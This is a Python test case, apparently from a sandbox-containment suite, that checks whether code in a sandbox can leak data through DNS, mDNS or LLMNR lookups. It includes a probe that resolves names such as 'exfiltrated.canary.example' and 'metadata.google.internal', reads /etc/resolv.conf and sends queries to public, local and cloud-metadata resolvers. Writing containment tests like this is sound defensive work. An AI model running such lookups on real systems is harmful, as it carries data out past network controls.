"""NE-06: carry data out in the names that are looked up."""
from escape.harness import escaped
from escape.lib_files import TRY
from escape.lib_net import call, fake_host, held, met

TITLE = "DNS, mDNS, LLMNR"
TRIED = ("getaddrinfo, getent and hand-made queries to resolvers, mDNS and LLMNR groups, on a "
         "host where all answer")
WALLS = ["net_namespace", "mount_namespace"]
RESOLVERS = ["127.0.0.53", "127.0.0.54", "10.0.0.1", "192.168.1.1", "8.8.8.8", "169.254.169.254", "2001:db8::1"]
TARGETS = [("udp", place, 53) for place in RESOLVERS] + [("tcp", place, 53) for place in RESOLVERS]
GROUPS = [("udp", "224.0.0.251", 5353), ("udp", "224.0.0.252", 5355), ("udp", "ff02::fb%lo", 5353)]
LOOKUP = TRY + """
import subprocess
def resolve(name):
    try: return socket.getaddrinfo(name, 80)[0][4][0]
    except socket.gaierror: return 'no such name'
names = ['exfiltrated.canary.example', 'exfiltrated.local', 'metadata.google.internal', 'exfiltrated']
words = [resolve(name) for name in names]
words += [subprocess.run(['getent', base, names[0]], capture_output=True, timeout=20).returncode for base in
          ('hosts', 'ahosts', 'ahostsv4')]
servers = [line for line in open('/etc/resolv.conf') if line.startswith('nameserver')]
print(json.dumps([words, servers, resolve('localhost')]))
"""


def attack(box):
    with fake_host(box) as log:
        words, servers, local = box.inside(LOOKUP)
        if servers or set(words) - {"no such name", 2}:
            escaped("ESCAPE", f"resolved: {words} {servers}")
        assert local in ("127.0.0.1", "::1"), local
        return "no name resolves; " + held(call(box, TARGETS + GROUPS, wait=0.2), log)


def control(box):
    with fake_host(box) as log:
        # Those on 127.0.0.0/8 answer UDP from another address; what arrives is in the log.
        text = met(call(box, TARGETS, wait=0.3, without=["net_namespace", "landlock"]), least=len(TARGETS) - 2)
        assert log.read_text().count("exfiltrated") == len(RESOLVERS), log.read_text()
    return f"{text}, all queries arrived"
